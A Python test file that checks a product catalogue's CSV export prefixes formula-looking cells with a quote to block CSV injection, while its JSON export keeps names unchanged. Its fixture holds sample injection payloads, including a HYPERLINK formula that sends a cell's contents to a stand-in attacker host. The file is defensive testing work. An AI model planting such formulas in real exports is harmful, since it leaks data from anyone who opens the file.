"""catalogue.export_products' CSV carries no formula cell (security round 3, N13; OWASP's CSV injection
guidance): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with
``'``. The JSON export gives the names as they are."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from types import ModuleType
from typing import Any

import boto3
import pytest

from tests.aws import EVENT_ADMIN_KEY, seed
from tests.conftest import load_family
from tests.helpers import load_event

Handler = Callable[[dict[str, Any], Any], dict[str, Any]]
FORMULAS = {
    "F-EQ": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "F-PLUS": "+1+1",
    "F-MINUS": "-2+3",
    "F-AT": "@SUM(A1:A2)",
    "F-TAB": "\t=1+1",
    "F-CR": "\r=1+1",
}
PLAIN = {"P-1": "Cup = mug", "P-2": "'quoted already"}


@pytest.fixture
def catalogue(aws: None) -> ModuleType:
    seed("events-admin", ["catalogue.*"], permissions=["catalogue"], key=EVENT_ADMIN_KEY)
    family = load_family("catalogue")
    client = boto3.client("dynamodb")
    for sku, name in {**FORMULAS, **PLAIN}.items():
        product = {"sku": sku, "name": name, "price_cents": 100, "currency": "EUR"}
        client.put_item(
            TableName=os.environ["TOOLFRONT_PRODUCTS_TABLE"], Item=family.products.to_item(product)
        )
    return family


def exported_text(catalogue: ModuleType, export_format: str) -> str:
    made = load_event("catalogue_get_product", body=json.dumps({"format": export_format}))
    made["rawPath"] = "/v1/tools/catalogue/export_products"
    made["pathParameters"] = {"verb_noun": "export_products"}
    handler: Handler = catalogue.lambda_handler
    answer = handler(made, None)
    assert answer["statusCode"] == 200
    (block,) = json.loads(answer["body"])["content"]
    text: str = block["resource"]["text"]
    return text


def test_catalogue_export_csv_formula_names_are_prefixed_with_a_quote(catalogue: ModuleType) -> None:
    rows = {
        row["sku"]: row["name"]
        for row in csv.DictReader(io.StringIO(exported_text(catalogue, "csv"), newline=""))
    }

    for sku, name in FORMULAS.items():
        assert rows[sku] == "'" + name
    for sku, name in PLAIN.items():
        assert rows[sku] == name


def test_catalogue_export_json_names_are_unchanged(catalogue: ModuleType) -> None:
    names = {product["sku"]: product["name"] for product in json.loads(exported_text(catalogue, "json"))}

    assert names == {**FORMULAS, **PLAIN}
